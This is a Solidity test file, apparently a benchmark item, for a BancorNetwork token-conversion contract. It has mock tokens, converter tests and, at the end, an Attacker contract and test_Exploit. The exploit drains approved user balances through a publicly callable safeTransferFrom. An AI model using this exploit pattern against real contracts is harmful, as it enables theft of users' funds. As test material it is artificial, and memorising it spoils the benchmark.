// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.6.12;

import "./BancorNetwork.sol";

// assay-canary-01af29bf-7e55-400f-a859-7366ace549f4

interface Vm {
  function prank(address sender) external;
  function expectRevert() external;
  function expectRevert(bytes calldata reason) external;
}

contract Token is IERC20Token {
  address private minter = msg.sender;
  bool public silent;
  mapping(address => uint256) public balanceOf;
  mapping(address => mapping(address => uint256)) public allowance;

  function mint(address to, uint256 amount) external {
    require(msg.sender == minter, "minter only");
    balanceOf[to] += amount;
  }

  function quieten() external {
    require(msg.sender == minter, "minter only");
    silent = true;
  }

  function approve(address spender, uint256 amount) external {
    allowance[msg.sender][spender] = amount;
  }

  function transfer(address to, uint256 amount) external override returns (bool) {
    require(balanceOf[msg.sender] >= amount, "balance");
    balanceOf[msg.sender] -= amount;
    balanceOf[to] += amount;
    return true;
  }

  function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
    if (silent) return false;
    require(balanceOf[from] >= amount && allowance[from][msg.sender] >= amount, "allowance");
    allowance[from][msg.sender] -= amount;
    balanceOf[from] -= amount;
    balanceOf[to] += amount;
    return true;
  }
}

/// As some tokens are: says nothing when it moves.
contract OldToken {
  mapping(address => uint256) public balanceOf;

  constructor(address to) public {
    balanceOf[to] = 10e18;
  }

  function transferFrom(address from, address to, uint256 amount) external {
    require(balanceOf[from] >= amount, "balance");
    balanceOf[from] -= amount;
    balanceOf[to] += amount;
  }
}

/// Trades at two for one.
contract Converter is IConverter {
  function convert(IERC20Token, IERC20Token target, uint256 amount, address to) external override returns (uint256) {
    target.transfer(to, amount * 2);
    return amount * 2;
  }
}

contract Proof {
  Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
  address internal constant ANA = address(0xA9A);
  address internal constant BEN = address(0xBE9);

  Token internal bnt;
  Token internal dai;
  BancorNetwork internal network;
  Converter internal first;
  Converter internal second;
  Attacker internal thief;

  function setUp() public {
    bnt = new Token();
    dai = new Token();
    network = new BancorNetwork();
    first = new Converter();
    second = new Converter();
    network.register(address(first), true);
    network.register(address(second), true);
    bnt.mint(ANA, 400_000e18);
    bnt.mint(BEN, 145_000e18);
    dai.mint(address(first), 10_000e18);
    bnt.mint(address(second), 10_000e18);
    vm.prank(ANA);
    bnt.approve(address(network), uint256(-1));
    vm.prank(BEN);
    bnt.approve(address(network), uint256(-1));
    thief = new Attacker(network, bnt);
  }

  function paths() internal view returns (IERC20Token[] memory path, IConverter[] memory via) {
    path = new IERC20Token[](3);
    via = new IConverter[](2);
    path[0] = bnt;
    path[1] = dai;
    path[2] = bnt;
    via[0] = first;
    via[1] = second;
  }

  function test_Regular() public {
    (IERC20Token[] memory path, IConverter[] memory via) = paths();
    vm.prank(ANA);
    require(network.convertByPath(path, via, 100e18, 400e18) == 400e18, "along the path");
    require(bnt.balanceOf(ANA) == 400_300e18 && dai.balanceOf(address(second)) == 200e18, "traded");
    vm.prank(ANA);
    network.safeTransferFrom(bnt, ANA, BEN, 300e18);
    require(bnt.balanceOf(ANA) == 400_000e18, "one's own");
    OldToken old = new OldToken(ANA);
    path[0] = IERC20Token(address(old));
    vm.prank(ANA);
    network.convertByPath(path, via, 10e18, 40e18);
    require(old.balanceOf(address(first)) == 10e18, "an old token");
  }

  function test_RefusesConvertersOfOthers() public {
    (IERC20Token[] memory path, IConverter[] memory via) = paths();
    via[1] = new Converter();
    vm.prank(ANA);
    vm.expectRevert("!converter");
    network.convertByPath(path, via, 0, 0);
    vm.prank(ANA);
    vm.expectRevert("!owner");
    network.register(ANA, true);
  }

  function test_RefusesPathsAndPrices() public {
    (IERC20Token[] memory path, IConverter[] memory via) = paths();
    vm.prank(ANA);
    vm.expectRevert("!return");
    network.convertByPath(path, via, 100e18, 400e18 + 1);
    vm.prank(ANA);
    vm.expectRevert("!path");
    network.convertByPath(new IERC20Token[](4), via, 0, 0);
    vm.prank(ANA);
    vm.expectRevert("!path");
    network.convertByPath(new IERC20Token[](1), new IConverter[](0), 0, 0);
  }

  function test_RefusesTokensThatDoNotMove() public {
    (IERC20Token[] memory path, IConverter[] memory via) = paths();
    vm.expectRevert("!transferFrom");
    network.convertByPath(path, via, 1, 0);
    bnt.quieten();
    vm.prank(ANA);
    vm.expectRevert("!transferFrom");
    network.convertByPath(path, via, 1, 0);
  }

  function exploit() public {
    thief.run(ANA);
    thief.run(BEN);
  }

  function test_Exploit() public {
    uint256 before = ownersHold();
    exploit();
    require(ownersHold() + 545_000e18 <= before, "nothing lost");
  }

  function ownersHold() public view returns (uint256) {
    return bnt.balanceOf(ANA) + bnt.balanceOf(BEN);
  }

  function target() public view returns (address) {
    return address(network);
  }

  function attacker() public view returns (address) {
    return address(thief);
  }
}

contract Attacker {
  BancorNetwork internal network;
  Token internal bnt;

  constructor(BancorNetwork network_, Token bnt_) public {
    network = network_;
    bnt = bnt_;
  }

  function run(address from) external {
    network.safeTransferFrom(bnt, from, address(this), bnt.balanceOf(from));
  }
}
